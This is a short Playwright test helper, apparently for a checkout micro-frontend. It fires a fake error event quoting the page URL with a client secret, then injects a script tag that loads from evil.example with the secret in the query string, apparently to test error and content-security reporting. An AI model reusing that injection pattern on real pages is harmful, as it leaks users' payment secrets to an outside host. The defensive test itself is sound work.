import type { Page } from '@playwright/test';

/** Has the checkout's page say of itself what it would say on its worst day: an error that quotes its address and this secret, and a refused script. */
export const provokeReports = (page: Page, secret: string): Promise<void> =>
  page.evaluate((secret) => {
    const files = performance.getEntriesByType('resource').map(({ name }) => name);
    const file = files.find((name) => name.includes('/remotes/mf-checkout/'));
    // Text, whose file the browser names: of an error the engine says that this code has made it.
    const error = `Lost at ${window.location.href}?client_secret=${secret}`;
    window.dispatchEvent(new ErrorEvent('error', { error, ...(file && { filename: file }) }));
    const script = document.createElement('script');
    script.src = `https://evil.example${window.location.pathname}?${secret}`;
    document.body.append(script);
  }, secret);
